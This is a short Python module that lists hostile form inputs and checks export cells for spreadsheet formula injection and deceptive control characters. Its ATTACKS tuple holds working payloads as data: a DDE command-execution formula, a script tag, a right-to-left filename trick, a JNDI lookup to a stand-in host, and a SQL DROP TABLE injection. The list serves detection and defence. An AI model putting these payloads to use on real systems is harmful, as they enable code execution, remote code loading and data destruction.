"""Texts that somebody may have typed into a form to harm whoever opens the export of it."""

from __future__ import annotations

import re

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '"=1+1"',
    "a\0=1+1",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "${jndi:ldap://x.example/a}",
    "'; DROP TABLE contacts --",
)
LIVE_START = ("=", "+", "-", "@", "\t", "\r", "\0")
LIVE_INSIDE = re.compile(r"[;,\t\n\r]\s*[=+@-]|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def is_live(cell: str) -> bool:
    """Tell whether a spreadsheet would run a cell, or a reader be deceived by it."""
    return cell.startswith(LIVE_START) or bool(LIVE_INSIDE.search(cell))
